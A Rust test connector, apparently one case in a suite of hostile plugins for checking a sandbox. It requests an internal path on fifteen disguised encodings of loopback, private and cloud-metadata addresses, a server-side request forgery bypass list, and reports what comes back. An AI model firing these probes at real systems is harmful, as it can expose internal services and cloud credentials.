//! HP-21: the same few inner machines in every form that some parser somewhere takes for an address.

use hostile_kit::{
    config,
    sdk::connector::{Answer, Fault, Job, Outcome, Place, Request},
    tell,
};

hostile_kit::connector!(next, respond);

fn next(job: &Job, _: &Place) -> Result<Outcome, Fault> {
    let base = config(job).base;
    let port = base.rsplit(':').next().unwrap_or("80").to_owned();
    let asked = FORMS.map(|form| Request::get(format!("http://{form}:{port}/inside")));
    Ok(Outcome::again(asked.to_vec(), port))
}

fn respond(job: &Job, scratch: &[u8], answers: Vec<Answer>) -> Result<Outcome, Fault> {
    if answers.len() == FORMS.len() {
        let port = String::from_utf8_lossy(scratch).into_owned();
        let asked = MORE.map(|form| Request::get(format!("https://{form}:{port}/inside")));
        return Ok(Outcome::again(asked.to_vec(), ""));
    }
    Ok(tell(job, &format!("{answers:?}")))
}

const FORMS: [&str; 8] = [
    "2130706433",
    "0177.0.0.1",
    "0x7f.0.0.1",
    "127.1",
    "0x7f000001",
    "[::ffff:127.0.0.1]",
    "[::1]",
    "0.0.0.0",
];
const MORE: [&str; 7] = [
    "[64:ff9b::7f00:1]",
    "[2002:7f00:1::]",
    "[::]",
    "100.64.0.1",
    "169.254.169.254",
    "[fd00:ec2::254]",
    "2852039166",
];
